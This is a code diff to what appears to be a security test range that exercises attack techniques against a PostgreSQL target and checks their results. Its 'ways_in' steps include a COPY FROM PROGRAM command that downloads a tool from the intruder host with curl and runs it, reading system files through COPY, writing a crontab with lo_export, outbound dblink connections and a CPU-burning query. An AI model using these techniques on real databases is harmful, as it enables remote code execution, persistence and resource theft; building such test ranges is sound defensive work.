@@ -11,6 +11,8 @@ from ranges.intruder import Intruder
 from ranges.target import Target, require
 
 _MINING = "SELECT count(sha256(n::text::bytea)) FROM generate_series(1, 2000000) AS n"
+_REQUEST = b"\x04\xd2\x16"
+"""With what a client of PostgreSQL asks for encryption, first of all."""
 _PHYSICAL = ("--format=tar", "--wal-method=fetch", "--pgdata=-", "--checkpoint=fast")
 
 
@@ -25,14 +27,27 @@ class PostgresTarget(Target[Postgres]):
     def operations(self) -> Sequence[Step]:
         """Reload, clean up, two kinds of backup, restart."""
         client = self.server.client
-        backup = self.server.folder / "backup"
         return (
-            Step("reload", lambda: self._query("SELECT pg_reload_conf()")),
-            Step("vacuum", lambda: client("vacuumdb", "--analyze")),
-            Step("logical backup", lambda: client("pg_dump", f"--file={backup}.sql")),
-            Step("physical backup", lambda: client("pg_basebackup", *_PHYSICAL)),
+            Step(
+                "reload",
+                lambda: require(self._query("SELECT pg_reload_conf()"), b" t\n", "The reload"),
+            ),
+            Step("vacuum", lambda: require(client("vacuumdb", "--analyze"), b"vacuum", "vacuumdb")),
+            Step("logical backup", self._dump),
+            Step(
+                "physical backup",
+                lambda: require(
+                    client("pg_basebackup", *_PHYSICAL), b"backup_label", "pg_basebackup"
+                ),
+            ),
             Step("restart", self.restart),
         )
+
+    def _dump(self) -> None:
+        dump = self.server.folder / "backup.sql"
+        dump.unlink(missing_ok=True)
+        self.server.client("pg_dump", f"--file={dump}")
+        require(dump.read_bytes() if dump.exists() else b"", b"dump complete", "pg_dump")
 
     def ways_in(self, intruder: Intruder) -> Sequence[Step]:
         """Programs, files and connections by statements."""
@@ -44,7 +59,7 @@ class PostgresTarget(Target[Postgres]):
             Step(
                 "COPY FROM PROGRAM downloads a program and runs it",
                 lambda: self._run(
-                    f"curl -s -o {tool} {intruder.tool}; chmod +x {tool}; {tool} x; id"
+                    f"curl -s -o {tool} {intruder.tool} && chmod +x {tool} && {tool} x && id"
                 ),
             ),
             Step(
@@ -53,8 +68,11 @@ class PostgresTarget(Target[Postgres]):
             ),
             Step("COPY shows a file of the system", self._read_file),
             Step("lo_export leaves a crontab", lambda: self._write_file(str(crontab))),
-            Step("dblink calls another machine", lambda: self._call(address)),
-            Step("a query computes inside PostgreSQL", lambda: self._query(_MINING)),
+            Step("dblink calls another machine", lambda: self._call(address, intruder)),
+            Step(
+                "a query computes inside PostgreSQL",
+                lambda: require(self._query(_MINING), b" 2000000\n", "The query"),
+            ),
         )
 
     def _run(self, command: str) -> None:
@@ -76,13 +94,10 @@ class PostgresTarget(Target[Postgres]):
         )
         require(answer, b"written", "lo_export")
 
-    def _call(self, address: str) -> None:
-        answer = self._query(
-            "CREATE EXTENSION IF NOT EXISTS dblink",
-            f"SELECT dblink_connect('{address}')",
-            "SELECT count(*) AS extensions FROM pg_extension WHERE extname = 'dblink'",
-        )
-        require(answer, b" 1\n", "CREATE EXTENSION dblink")
+    def _call(self, address: str, intruder: Intruder) -> None:
+        before = len(intruder.heard)
+        self._query("CREATE EXTENSION IF NOT EXISTS dblink", f"SELECT dblink_connect('{address}')")
+        require(b" ".join(intruder.heard[before:]), _REQUEST, "dblink_connect")
 
     def _query(self, *statements: str) -> bytes:
         return self.server.client("psql", *(word for text in statements for word in ("-c", text)))
